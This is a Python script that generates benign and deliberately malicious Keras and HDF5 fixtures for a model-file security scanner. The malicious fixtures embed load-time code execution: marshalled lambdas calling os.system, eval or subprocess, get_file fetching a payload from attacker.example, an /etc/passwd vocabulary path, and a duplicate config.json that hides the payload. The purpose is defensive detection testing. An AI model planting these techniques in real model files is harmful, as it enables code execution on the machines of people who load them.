#!/usr/bin/python3
"""Writes chainvet's Keras fixtures, and those of the marshal and hdf5 readers.

    /usr/bin/python3 testdata/keras/gen.py

Needs h5py and numpy for /usr/bin/python3 (Debian: python3-h5py,
python3-numpy). Code objects are marshalled by every Python it finds
(python2.7, python3.6 ... python3.13 on PATH or under $PYENV_ROOT); a
version it cannot find keeps its committed files.

Nothing here runs a payload: the lambdas are compiled from source strings
and only their code objects are marshalled; no Keras is imported or
loaded. Every payload is harmless anyway (os.system('true')).
"""

import codecs
import glob
import gzip
import io
import json
import marshal
import os
import shutil
import subprocess
import sys
import zipfile

import h5py
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
KERAS = HERE
MARSHAL = os.path.join(ROOT, "internal", "modelfile", "marshal", "testdata")
HDF5 = os.path.join(ROOT, "internal", "modelfile", "hdf5", "testdata")

ZIP_TIME = (1980, 1, 1, 0, 0, 0)
MANIFEST = []


def row(path, verdict, lo, hi, rules, evidence, desc):
    MANIFEST.append((path, verdict, lo, hi, ",".join(rules), evidence, desc))


# ---------------------------------------------------------------- marshal

# Compiled, never called: marshal.dumps of the lambda's code object only.
HELPER = r"""
import marshal, sys
mod = compile(sys.argv[1], "<chainvet-fixture>", "eval")
code = [c for c in mod.co_consts if hasattr(c, "co_code")][0]
getattr(sys.stdout, "buffer", sys.stdout).write(marshal.dumps(code))
"""

LAMBDAS = {
    # The payload Keras exploits carry.
    "os_system": "lambda x: __import__('os').system('true')",
    # What a real model's Lambda layer holds.
    "benign": "lambda x: x * 2 + 1",
    # Nested code, a closure, defaults, a frozenset constant.
    "nested": "lambda x, scale=2: [(lambda y: y * scale)(v) for v in x if v not in {'skip', 'drop'}]",
    # A dangerous name assembled from pieces the compiler folds.
    "getattr_eval": "lambda x: getattr(__builtins__, 'ev' + 'al')('1+1')",
}

# Constants of every kind marshal writes in code (Python 3 syntax).
CONSTS_SRC = "lambda: (1.5, 2j, 10**30, -(2**70), b'raw', None, True, False, ..., (1, 'two'), 'snow\u2603')"

VERSIONS = ["2.7", "3.6", "3.7", "3.8", "3.9", "3.10", "3.11", "3.12", "3.13"]


def find_python(v):
    if "%d.%d" % sys.version_info[:2] == v:
        return sys.executable
    cands = [shutil.which("python" + v)]
    root = os.environ.get("PYENV_ROOT", os.path.expanduser("~/.pyenv"))
    cands += sorted(glob.glob(os.path.join(root, "versions", v + ".*", "bin", "python")))
    for c in cands:
        if not c:
            continue
        try:
            out = subprocess.run([c, "-c", "import sys; print('%d.%d' % sys.version_info[:2])"],
                                 capture_output=True, text=True, timeout=30)
        except OSError:
            continue
        if out.returncode == 0 and out.stdout.strip() == v:
            return c
    return None


def dump_code(python, src):
    # Set orders (frozenset constants) follow str hashes.
    env = dict(os.environ, PYTHONHASHSEED="0")
    out = subprocess.run([python, "-c", HELPER, src], capture_output=True, timeout=60, env=env)
    if out.returncode != 0:
        raise SystemExit("marshalling %r with %s: %s" % (src, python, out.stderr.decode()))
    return out.stdout


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


CODE = {}  # (version, name) -> marshalled code


def gen_marshal():
    os.makedirs(MARSHAL, exist_ok=True)
    for v in VERSIONS:
        py = find_python(v)
        names = dict(LAMBDAS)
        if not v.startswith("2"):
            names["consts"] = CONSTS_SRC
        for name, src in names.items():
            path = os.path.join(MARSHAL, "py%s_%s.marshal" % (v.replace(".", ""), name))
            if py is None:
                if os.path.exists(path):
                    with open(path, "rb") as f:
                        CODE[(v, name)] = f.read()
                    print("no python%s: kept %s" % (v, os.path.relpath(path, ROOT)))
                continue
            CODE[(v, name)] = dump_code(py, src)
            write(path, CODE[(v, name)])
    # Plain values in each marshal version this Python writes.
    value = {
        "list": [1, -7, 2.5, "str", "\u00fcn\u00ef", b"bytes", None, True, False, Ellipsis,
                 (1,), {1, 2}, frozenset({3}), 1 + 2j, 2**100, -(2**100), StopIteration, "x" * 300],
        "nested": {"k": ("a", ("b", ("c",)))},
    }
    for version in range(5):
        write(os.path.join(MARSHAL, "values_v%d.marshal" % version), marshal.dumps(value, version))


def b64(raw):
    """As Keras's func_dump encodes code: base64 with a newline every 76 characters."""
    return codecs.encode(raw, "base64").decode("ascii")


# ------------------------------------------------------------------- hdf5

def gzip_file(path, data):
    """Writes data gzipped, with no name and time in the header."""
    with open(path, "wb") as f:
        with gzip.GzipFile(filename="", fileobj=f, mode="wb", mtime=0) as gz:
            gz.write(data)


def gzip_path(path):
    """Replaces path by path.gz."""
    with open(path, "rb") as f:
        data = f.read()
    gzip_file(path + ".gz", data)
    os.remove(path)


LIBVER = {"latest": h5py.h5f.LIBVER_LATEST, "v108": h5py.h5f.LIBVER_V18}


def h5file(path, libver=None, userblock=0, track_order=False):
    """Opens a new HDF5 file for writing. Version 2 object headers record
    times unless told not to: the property lists keep the bytes stable."""
    fapl = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
    if libver:
        fapl.set_libver_bounds(LIBVER[libver], LIBVER[libver])
    fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
    fcpl.set_obj_track_times(False)
    if track_order:
        flags = h5py.h5p.CRT_ORDER_TRACKED | h5py.h5p.CRT_ORDER_INDEXED
        fcpl.set_link_creation_order(flags)
        fcpl.set_attr_creation_order(flags)
    if userblock:
        fcpl.set_userblock(userblock)
    fid = h5py.h5f.create(path.encode(), h5py.h5f.ACC_TRUNC, fapl=fapl, fcpl=fcpl)
    return h5py.File(fid)


def group(parent, name):
    gcpl = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
    gcpl.set_obj_track_times(False)
    return h5py.Group(h5py.h5g.create(parent.id, name.encode(), gcpl=gcpl))

def gen_hdf5():
    os.makedirs(HDF5, exist_ok=True)
    for p in glob.glob(os.path.join(HDF5, "*.h5")) + glob.glob(os.path.join(HDF5, "*.gz")):
        os.remove(p)
    config = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": []}})

    def attrs(f, fixed=True):
        f.attrs["model_config"] = np.bytes_(config.encode()) if fixed else config
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["backend"] = "tensorflow"
        f.attrs["int"] = np.int32(-5)
        f.attrs["uint8"] = np.uint8(200)
        f.attrs["big_endian"] = np.array([1, 2, 3], dtype=">i8")
        f.attrs["float"] = np.float32(1.5)
        f.attrs["doubles"] = np.array([0.25, -2.0])
        f.attrs["names"] = np.array([b"dense", b"dense_1"], dtype="S8")
        f.attrs["vlen_names"] = ["x", "yy"]
        f.attrs["complex"] = np.complex64(1 + 2j)
        f.attrs["empty"] = h5py.Empty("f4")

    def weights(f):
        g = group(f, "model_weights")
        g.create_dataset("kernel", data=np.arange(8, dtype="f4").reshape(4, 2), track_times=False)

    # Superblock 0, version 1 object headers, a continuation block.
    with h5file(os.path.join(HDF5, "v0.h5")) as f:
        attrs(f)
        weights(f)
    # The same with the attributes h5py 3 writes for str (variable-length).
    with h5file(os.path.join(HDF5, "v0_vlen.h5")) as f:
        attrs(f, fixed=False)
    # Superblock 2 (libver 1.8) and 3 (latest), version 2 object headers.
    with h5file(os.path.join(HDF5, "v2.h5"), libver="v108") as f:
        attrs(f)
    with h5file(os.path.join(HDF5, "v3.h5"), libver="latest") as f:
        attrs(f)
        weights(f)
    # Creation order tracked: 6-byte message envelopes.
    with h5file(os.path.join(HDF5, "v3_order.h5"), libver="latest", track_order=True) as f:
        attrs(f)
    # User blocks: the superblock at 512 and at 8192 (past chainvet's head).
    for ub in (512, 8192):
        with h5file(os.path.join(HDF5, "userblock%d.h5" % ub), userblock=ub) as f:
            attrs(f)
    # Dense storage: more attributes than fit in the header (fractal heap,
    # name-index B-tree), and a 100 KB attribute stored as a huge object.
    with h5file(os.path.join(HDF5, "dense.h5"), libver="latest") as f:
        attrs(f)
        for i in range(40):
            f.attrs["extra_%02d" % i] = "value %d" % i
    # (Kept gzipped: 70 KB of which 69 are spaces.)
    huge = os.path.join(HDF5, "dense_huge.h5")
    with h5file(huge, libver="latest") as f:
        f.attrs["model_config"] = np.bytes_(b"{" + b" " * 70000 + b"}")
        f.attrs["keras_version"] = "2.13.1"
    gzip_path(huge)
    # A plain data file: no Keras attributes.
    with h5file(os.path.join(HDF5, "plain.h5")) as f:
        f.create_dataset("data", data=np.zeros(16, "f4"), track_times=False)
    # 16 MiB of contiguous tensor data after the root group, gzipped for
    # the repository: the benchmark unpacks it and checks that reading the
    # root attributes does not touch the data.
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        attrs(f)
        f.create_dataset("big", data=np.zeros(4 << 20, "f4"), track_times=False)
    gzip_file(os.path.join(HDF5, "big_dataset.h5.gz"), buf.getvalue())


# ------------------------------------------------------------------ keras

def policy(name="float32"):
    return {"module": "keras", "class_name": "DTypePolicy", "config": {"name": name}, "registered_name": None}


def initializer(cls, config=None):
    return {"module": "keras.initializers", "class_name": cls, "config": config or {}, "registered_name": None}


def k3(cls, config, module="keras.layers", build=None, registered=None, **extra):
    d = {"module": module, "class_name": cls, "config": config, "registered_name": registered}
    if build is not None:
        d["build_config"] = {"input_shape": build}
    d.update(extra)
    return d


def k3_input(name, shape, dtype="float32"):
    return k3("InputLayer", {"batch_shape": [None] + shape, "dtype": dtype, "sparse": False, "name": name})


def k3_dense(name, units, inp, activation="relu", dtype="float32"):
    return k3("Dense", {
        "name": name, "trainable": True, "dtype": policy(dtype), "units": units,
        "activation": activation, "use_bias": True,
        "kernel_initializer": initializer("GlorotUniform", {"seed": None}),
        "bias_initializer": initializer("Zeros"),
        "kernel_regularizer": None, "bias_regularizer": None,
        "kernel_constraint": None, "bias_constraint": None,
    }, build=[None, inp])


def k3_lambda(name, code, inp, key="code"):
    if key == "code":
        fn = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    else:
        fn = {"class_name": "__lambda__", "config": {"value": [code, None, None]}}
    return k3("Lambda", {"name": name, "trainable": True, "dtype": policy(), "function": fn, "arguments": {}},
              build=[None, inp])


def k3_sequential(name, layers, inp, compile_config=True):
    model = k3("Sequential", {"name": name, "trainable": True, "dtype": policy(), "layers": layers,
                              "build_input_shape": [None, inp]}, module="keras", build=[None, inp])
    if compile_config:
        model["compile_config"] = {
            "optimizer": k3("Adam", {"name": "adam", "learning_rate": 0.0010000000474974513, "weight_decay": None,
                                     "clipnorm": None, "global_clipnorm": None, "clipvalue": None,
                                     "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None,
                                     "loss_scale_factor": None, "gradient_accumulation_steps": None,
                                     "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False},
                            module="keras.optimizers"),
            "loss": "mse", "loss_weights": None, "metrics": ["mae"], "weighted_metrics": None,
            "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False,
        }
    return model


def tensor(layer, shape, node=0, index=0):
    return {"class_name": "__keras_tensor__",
            "config": {"shape": shape, "dtype": "float32", "keras_history": [layer, node, index]}}


def node(*args):
    return {"args": list(args), "kwargs": {}}


def with_nodes(layer, name, *nodes):
    layer = dict(layer)
    layer["name"] = name
    layer["inbound_nodes"] = list(nodes)
    return layer


def weights_h5(layers):
    """A model.weights.h5 as Keras 3 writes it: layers/<name>/vars/<i>."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        g = f.create_group("layers")
        for name, shapes in layers:
            v = g.create_group(name).create_group("vars")
            for i, shape in enumerate(shapes):
                v.create_dataset(str(i), data=np.zeros(shape, "f4"), track_times=False)
        f.create_group("optimizer").create_group("vars")
    return buf.getvalue()


METADATA = {"keras_version": "3.6.0", "date_saved": "2024-11-21@12:00:00"}


def keras_zip(path, config, members=None, metadata=METADATA, weights=None, deflate=False):
    """Writes a .keras zip: metadata.json, config.json, model.weights.h5."""
    if members is None:
        members = [("metadata.json", json.dumps(metadata).encode()),
                   ("config.json", json.dumps(config).encode() if not isinstance(config, bytes) else config),
                   ("model.weights.h5", weights or weights_h5([("dense", [(4, 8), (8,)])]))]
    full = os.path.join(KERAS, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with zipfile.ZipFile(full, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)


def k2_layer(cls, config):
    return {"class_name": cls, "config": config}


def k2_input(name, n):
    return k2_layer("InputLayer", {"batch_input_shape": [None, n], "dtype": "float32", "sparse": False,
                                   "ragged": False, "name": name})


def k2_dense(name, units, activation="relu"):
    return k2_layer("Dense", {
        "name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
        "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None})


def k2_lambda(name, function, function_type="lambda", module="__main__", **extra):
    cfg = {"name": name, "trainable": True, "dtype": "float32", "function": function,
           "function_type": function_type, "module": module, "output_shape": None,
           "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}
    cfg.update(extra)
    return k2_layer("Lambda", cfg)


def k2_model(layers, name="sequential"):
    return {"class_name": "Sequential", "config": {"name": name, "layers": layers}}


TRAINING = {"loss": "mse", "metrics": [[{"class_name": "MeanMetricWrapper",
                                         "config": {"name": "mae", "dtype": "float32", "fn": "mean_absolute_error"}}]],
            "weighted_metrics": None, "loss_weights": None,
            "optimizer_config": {"class_name": "Custom>Adam", "config": {
                "name": "Adam", "weight_decay": None, "clipnorm": None, "global_clipnorm": None, "clipvalue": None,
                "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None, "jit_compile": True,
                "is_legacy_optimizer": False, "learning_rate": 0.0010000000474974513, "beta_1": 0.9,
                "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}}}


def keras2_h5(path, model_config, training_config=TRAINING, keras_version="2.13.1", fixed=True,
              libver=None, userblock=0, layers=(("dense", [(4, 8), (8,)]),), extra_attrs=None):
    """A full-model .h5 as tf.keras 2 writes it."""
    full = os.path.join(KERAS, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)

    def s(v):
        # h5py 2 wrote the JSON bytes Keras passed as fixed-length strings;
        # h5py 3 writes them variable-length.
        return np.bytes_(v.encode()) if fixed else v

    with h5file(full, libver=libver, userblock=userblock) as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = keras_version
        f.attrs["model_config"] = s(json.dumps(model_config))
        if training_config is not None:
            f.attrs["training_config"] = s(json.dumps(training_config))
        for k, v in (extra_attrs or {}).items():
            f.attrs[k] = v
        g = group(f, "model_weights")
        g.attrs["backend"] = "tensorflow"
        g.attrs["keras_version"] = keras_version
        g.attrs["layer_names"] = np.array([n.encode() for n, _ in layers], dtype="S%d" % max(len(n) for n, _ in layers))
        for name, shapes in layers:
            lg = group(g, name)
            wn = ["%s/%s:0" % (name, k) for k in ("kernel", "bias")[:len(shapes)]]
            lg.attrs["weight_names"] = np.array([w.encode() for w in wn])
            sub = group(lg, name)
            for w, shape in zip(wn, shapes):
                sub.create_dataset(w.split("/")[1], data=np.zeros(shape, "f4"), track_times=False)


def gen_keras():
    for d in ("benign", "malicious"):
        shutil.rmtree(os.path.join(KERAS, d), ignore_errors=True)
    code = {k: b64(v) for k, v in CODE.items()}
    evil = code[("3.11", "os_system")]
    harmless = code[("3.11", "benign")]

    # ---- benign .keras
    seq = k3_sequential("tiny_mlp", [k3_input("input_layer", [4]), k3_dense("dense", 8, 4),
                                     k3_dense("dense_1", 2, 8, activation="softmax")], 4)
    keras_zip("benign/sequential.keras", seq,
              weights=weights_h5([("dense", [(4, 8), (8,)]), ("dense_1", [(8, 2), (2,)])]))
    row("benign/sequential.keras", "benign", "info", "low", [], "",
        "Keras 3 Sequential (InputLayer, 2 Dense) with compile_config (Adam, mse); stored zip")
    keras_zip("benign/sequential_deflated.keras", seq, deflate=True)
    row("benign/sequential_deflated.keras", "benign", "info", "low", [], "",
        "the same, members deflated")

    # Functional: nested Sequential, a layer shared by two inputs, wrappers,
    # activations as serialized functions, a custom layer registered by name.
    inner = k3_sequential("encoder", [k3_input("enc_in", [8]), k3_dense("enc_dense", 8, 8)], 8, compile_config=False)
    shared = k3_dense("shared", 8, 4)
    lstm = k3("LSTM", {"name": "lstm", "trainable": True, "dtype": policy(), "units": 4, "activation": "tanh",
                       "recurrent_activation": "sigmoid", "return_sequences": True,
                       "kernel_initializer": initializer("GlorotUniform", {"seed": None}),
                       "recurrent_initializer": initializer("Orthogonal", {"gain": 1.0, "seed": None}),
                       "bias_initializer": initializer("Zeros"), "unit_forget_bias": True, "dropout": 0.0,
                       "recurrent_dropout": 0.0, "seed": None})
    bidi = k3("Bidirectional", {"name": "bidirectional", "trainable": True, "dtype": policy(), "merge_mode": "concat",
                                "layer": lstm}, build=[None, 3, 8])
    td = k3("TimeDistributed", {"name": "time_distributed", "trainable": True, "dtype": policy(),
                                "layer": k3_dense("td_dense", 2, 8, activation={
                                    "module": "keras.activations", "class_name": "function",
                                    "config": "relu", "registered_name": "relu"})}, build=[None, 3, 8])
    custom = k3("ScaleLayer", {"name": "scale", "trainable": True, "dtype": policy(), "factor": 2.0},
                module=None, registered="Custom>ScaleLayer", build=[None, 8])
    func = k3("Functional", {
        "name": "two_tower", "trainable": True,
        "layers": [
            with_nodes(k3_input("left", [4]), "left"),
            with_nodes(k3_input("right", [4]), "right"),
            with_nodes(shared, "shared", node(tensor("left", [None, 4])), node(tensor("right", [None, 4]))),
            with_nodes(k3("Add", {"name": "add", "trainable": True, "dtype": policy()}), "add",
                       node([tensor("shared", [None, 8], 0), tensor("shared", [None, 8], 1)])),
            with_nodes(inner, "encoder", node(tensor("add", [None, 8]))),
            with_nodes(custom, "scale", node(tensor("encoder", [None, 8]))),
            with_nodes(k3("RepeatVector", {"name": "repeat", "trainable": True, "dtype": policy(), "n": 3}), "repeat",
                       node(tensor("scale", [None, 8]))),
            with_nodes(bidi, "bidirectional", node(tensor("repeat", [None, 3, 8]))),
            with_nodes(td, "time_distributed", node(tensor("bidirectional", [None, 3, 8]))),
        ],
        "input_layers": [["left", 0, 0], ["right", 0, 0]],
        "output_layers": [["time_distributed", 0, 0]],
    }, module="keras.src.models.functional", registered="Functional")
    func["build_config"] = {"input_shape": None}
    func["compile_config"] = {
        "optimizer": "rmsprop",
        "loss": {"module": "keras.losses", "class_name": "MeanSquaredError",
                 "config": {"name": "mean_squared_error", "reduction": "sum_over_batch_size"},
                 "registered_name": None},
        "metrics": [{"module": "builtins", "class_name": "function", "config": "mean_absolute_error",
                     "registered_name": "mean_absolute_error"}],
        "loss_weights": None, "weighted_metrics": None, "run_eagerly": False,
        "steps_per_execution": 1, "jit_compile": False,
    }
    keras_zip("benign/functional.keras", func)
    row("benign/functional.keras", "benign", "info", "low", [], "",
        "Keras 3 Functional: shared layer, nested Sequential, Bidirectional(LSTM), TimeDistributed, registered custom layer, builtins metric")

    lookup = k3_sequential("text", [
        k3_input("text_in", [1], dtype="string"),
        k3("StringLookup", {"name": "lookup", "trainable": True, "dtype": "int64", "max_tokens": None,
                            "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]",
                            "vocabulary": ["a", "b", "c"], "vocabulary_dtype": "string", "idf_weights": None,
                            "invert": False, "output_mode": "int", "sparse": False, "pad_to_max_tokens": False}),
        k3_dense("dense", 2, 1, dtype="mixed_float16"),
    ], 1, compile_config=False)
    keras_zip("benign/inline_vocabulary.keras", lookup)
    row("benign/inline_vocabulary.keras", "benign", "info", "low", [], "",
        "StringLookup with its vocabulary inline, a mixed_float16 layer")

    # The directory format (saving with zipped=False).
    d = os.path.join(KERAS, "benign", "unzipped.keras")
    os.makedirs(d, exist_ok=True)
    write(os.path.join(d, "config.json"), json.dumps(seq).encode())
    write(os.path.join(d, "metadata.json"), json.dumps(METADATA).encode())
    write(os.path.join(d, "model.weights.h5"), weights_h5([("dense", [(4, 8), (8,)])]))
    row("benign/unzipped.keras/config.json", "benign", "info", "low", [], "",
        "config.json of a Keras 3 model saved unzipped (a folder)")
    write(os.path.join(KERAS, "benign", "model.weights.h5"), weights_h5([("dense", [(4, 8), (8,)])]))
    row("benign/model.weights.h5", "benign", "info", "low", [], "",
        "Keras 3 weights file (save_weights): groups and datasets, no attributes")

    # ---- benign .h5
    k2 = k2_model([k2_input("dense_input", 4), k2_dense("dense", 8), k2_dense("dense_1", 2, "softmax")])
    keras2_h5("benign/sequential_h5py2.h5", k2, layers=(("dense", [(4, 8), (8,)]), ("dense_1", [(8, 2), (2,)])))
    row("benign/sequential_h5py2.h5", "benign", "info", "low", [], "",
        "tf.keras 2 full model: model_config and training_config as fixed-length strings (h5py 2 style), superblock 0")
    keras2_h5("benign/sequential_h5py3.h5", k2, fixed=False)
    row("benign/sequential_h5py3.h5", "benign", "info", "low", [], "",
        "the same with variable-length strings (h5py 3 style), read from the global heap")
    keras2_h5("benign/sequential_latest.h5", k2, libver="latest")
    row("benign/sequential_latest.h5", "benign", "info", "low", [], "",
        "the same with libver latest: superblock 3, version 2 object headers")
    keras2_h5("benign/sequential_userblock.h5", k2, userblock=1024)
    row("benign/sequential_userblock.h5", "benign", "info", "low", [], "",
        "the same after a 1 KiB user block")
    keras2_h5("benign/sequential_dense_attrs.h5", k2, libver="latest",
              extra_attrs={"note_%02d" % i: "n%d" % i for i in range(12)})
    row("benign/sequential_dense_attrs.h5", "benign", "info", "low", [], "",
        "libver latest with 16 root attributes: dense attribute storage (fractal heap, B-tree)")
    with h5file(os.path.join(KERAS, "benign", "weights_only.h5")) as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["layer_names"] = np.array([b"dense"])
        group(f, "dense").create_dataset("kernel", data=np.zeros((4, 8), "f4"), track_times=False)
    row("benign/weights_only.h5", "benign", "info", "low", [], "",
        "tf.keras 2 save_weights file: layer_names, backend, keras_version")
    with h5file(os.path.join(KERAS, "benign", "plain_data.h5")) as f:
        f.attrs["description"] = "sensor readings"
        f.create_dataset("readings", data=np.zeros(16, "f4"), track_times=False)
    row("benign/plain_data.h5", "benign", "info", "info", [], "",
        "an HDF5 data file that is not a Keras model")

    # ---- malicious .keras
    def mal(path, config, lo, hi, rules, evidence, desc, **kw):
        keras_zip("malicious/" + path, config, **kw)
        row("malicious/" + path, "malicious", lo, hi, rules, evidence, desc)

    mal("lambda_os_system.keras",
        k3_sequential("m", [k3_input("in", [4]), k3_lambda("lambda", evil, 4)], 4),
        "critical", "critical", ["keras/lambda"], "system",
        "Lambda layer whose function is marshalled code (CPython 3.11) calling __import__('os').system")
    mal("lambda_harmless.keras",
        k3_sequential("m", [k3_input("in", [4]), k3_lambda("lambda", harmless, 4)], 4),
        "high", "high", ["keras/lambda"], "",
        "Lambda layer with harmless code (x * 2 + 1): still runs when loaded with safe_mode=False")
    mal("lambda_activation.keras",
        k3_sequential("m", [k3_input("in", [4]), k3_dense("dense", 8, 4, activation={
            "class_name": "__lambda__", "config": {"value": [evil, None, None]}})], 4),
        "critical", "critical", ["keras/lambda"], "system",
        "a Dense activation serialized as a __lambda__ object (serialization_lib's value form)")
    mal("lambda_py313.keras",
        k3_sequential("m", [k3_input("in", [4]), k3_lambda("lambda", code[("3.13", "os_system")], 4)], 4),
        "critical", "critical", ["keras/lambda"], "system",
        "the os.system lambda marshalled by CPython 3.13")
    mal("lambda_getattr.keras",
        k3_sequential("m", [k3_input("in", [4]), k3_lambda("lambda", code[("3.11", "getattr_eval")], 4)], 4),
        "critical", "critical", ["keras/lambda"], "eval",
        "lambda reaching eval through getattr(__builtins__, 'ev' + 'al')")
    nested = k3("Functional", {"name": "outer", "trainable": True, "layers": [
        with_nodes(k3_input("in", [3, 4]), "in"),
        with_nodes(k3_sequential("inner", [
            k3_input("inner_in", [3, 4]),
            k3("TimeDistributed", {"name": "td", "trainable": True, "dtype": policy(),
                                   "layer": k3_lambda("hidden", evil, 4)}, build=[None, 3, 4]),
        ], 4, compile_config=False), "inner", node(tensor("in", [None, 3, 4]))),
    ], "input_layers": [["in", 0, 0]], "output_layers": [["inner", 0, 0]]},
        module="keras.src.models.functional", registered="Functional")
    mal("nested_lambda.keras", nested, "critical", "critical", ["keras/lambda"], "system",
        "the payload lambda inside TimeDistributed inside a Sequential inside a Functional model")
    mal("module_os_system.keras",
        k3_sequential("m", [k3_input("in", [4]), k3_dense("dense", 8, 4, activation={
            "module": "os", "class_name": "function", "config": "system", "registered_name": None})], 4),
        "critical", "critical", ["keras/foreign-object"], "os.system",
        "CVE-2025-1550: an activation naming module os, function system")
    builtins_eval = k3_sequential("m", [k3_input("in", [4]), k3_dense("dense", 2, 4)], 4)
    builtins_eval["compile_config"]["loss"] = {"module": "builtins", "class_name": "function", "config": "eval",
                                               "registered_name": "builtins>eval"}
    mal("builtins_eval_loss.keras", builtins_eval, "critical", "critical", ["keras/foreign-object"], "builtins.eval",
        "compile_config loss naming builtins.eval")
    mal("custom_module.keras",
        k3_sequential("m", [k3_input("in", [4]),
                            k3("Backdoor", {"name": "backdoor", "trainable": True, "dtype": policy()},
                               module="evil_pkg.layers", registered="evil>Backdoor", build=[None, 4])], 4),
        "high", "high", ["keras/foreign-object"], "evil_pkg.layers",
        "a layer whose module is a package outside Keras: loading imports it")
    mal("get_file.keras",
        k3_sequential("m", [k3_input("in", [4]),
                            k3("get_file", {"fname": "payload.py", "origin": "https://attacker.example/payload.py",
                                            "cache_dir": "/tmp", "cache_subdir": ".", "extract": False},
                               module="keras.utils")], 4),
        "high", "high", ["keras/external-resource"], "get_file",
        "CVE-2025-8747 class: keras.utils.get_file named as an object, fetching a URL at load")
    mal("vocabulary_path.keras",
        k3_sequential("m", [k3_input("in", [1], dtype="string"),
                            k3("StringLookup", {"name": "lookup", "trainable": True, "dtype": "int64",
                                                "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]",
                                                "vocabulary": "/etc/passwd", "vocabulary_dtype": "string",
                                                "invert": False, "output_mode": "int"})], 1, compile_config=False),
        "high", "high", ["keras/external-resource"], "/etc/passwd",
        "StringLookup vocabulary naming a file outside the model, read at load")
    mal("tfsm_layer.keras",
        k3_sequential("m", [k3_input("in", [4]),
                            k3("TFSMLayer", {"name": "tfsm", "filepath": "/tmp/other_savedmodel",
                                             "call_endpoint": "serve", "trainable": False})], 4),
        "high", "high", ["keras/external-resource"], "/tmp/other_savedmodel",
        "TFSMLayer loading a SavedModel from outside the archive")
    mal("url_in_config.keras",
        k3_sequential("m", [k3_input("in", [4]),
                            k3("TextVectorization", {"name": "tv", "max_tokens": 100, "standardize": "lower",
                                                     "split": "whitespace", "output_mode": "int",
                                                     "vocabulary": "https://attacker.example/vocab.txt"})], 4),
        "high", "high", ["keras/external-resource"], "https://attacker.example/vocab.txt",
        "TextVectorization vocabulary given as a URL")
    utf16 = codecs.BOM_UTF16_LE + json.dumps(k3_sequential("m", [k3_input("in", [4]), k3_dense("dense", 8, 4, activation={
        "module": "subprocess", "class_name": "function", "config": "check_output", "registered_name": None})], 4)
    ).encode("utf-16-le")
    mal("utf16_config.keras", utf16, "critical", "critical", ["keras/foreign-object"], "subprocess",
        "config.json in UTF-16 (json.loads accepts it) naming subprocess.check_output")
    benign_cfg = json.dumps(seq).encode()
    evil_cfg = json.dumps(k3_sequential("m", [k3_input("in", [4]), k3_lambda("lambda", evil, 4)], 4)).encode()
    mal("duplicate_config.keras", None, "critical", "critical", ["keras/lambda"], "system",
        "two config.json members: a clean one first, the payload last (the one zipfile reads)",
        members=[("metadata.json", json.dumps(METADATA).encode()), ("config.json", benign_cfg),
                 ("config.json", evil_cfg)])
    mal("truncated_config.keras", benign_cfg[:len(benign_cfg) // 2], "medium", "medium", ["keras/malformed"], "",
        "config.json cut in half: not JSON")
    mal("lambda_garbage.keras",
        k3_sequential("m", [k3_input("in", [4]), k3_lambda("lambda", b64(b"\xe3garbage os.system('x')"), 4)], 4),
        "critical", "critical", ["keras/lambda"], "system",
        "Lambda whose code is not a code object; identifiers in its bytes name os.system")

    # ---- malicious .h5
    def mal_h5(path, config, lo, hi, rules, evidence, desc, **kw):
        keras2_h5("malicious/" + path, config, **kw)
        row("malicious/" + path, "malicious", lo, hi, rules, evidence, desc)

    def k2_with(*layers):
        return k2_model([k2_input("dense_input", 4)] + list(layers) + [k2_dense("dense", 2)])

    k2_evil = k2_with(k2_lambda("lambda", [code[("3.8", "os_system")], None, None]))
    mal_h5("lambda_os_system.h5", k2_evil, "critical", "critical", ["keras/lambda"], "system",
           "tf.keras 2 Lambda: [base64 code, defaults, closure] marshalled by CPython 3.8")
    mal_h5("lambda_h5py3.h5", k2_evil, "critical", "critical", ["keras/lambda"], "system",
           "the same with variable-length attributes", fixed=False)
    mal_h5("lambda_latest.h5", k2_evil, "critical", "critical", ["keras/lambda"], "system",
           "the same in a libver-latest file (version 2 object headers)", libver="latest")
    mal_h5("lambda_userblock.h5", k2_evil, "critical", "critical", ["keras/lambda"], "system",
           "the same after an 8 KiB user block: the signature lies past the first 4 KiB", userblock=8192)
    mal_h5("lambda_dense.h5", k2_evil, "critical", "critical", ["keras/lambda"], "system",
           "the same with dense attribute storage (16 root attributes)", libver="latest",
           extra_attrs={"note_%02d" % i: "n%d" % i for i in range(12)})
    big = k2_with(k2_lambda("lambda", [code[("3.8", "os_system")], None, None]),
                  *[k2_dense("pad_%03d" % i, 8) for i in range(150)])
    keras2_h5("malicious/lambda_huge_attribute.h5", big, libver="latest")
    gzip_path(os.path.join(KERAS, "malicious", "lambda_huge_attribute.h5"))
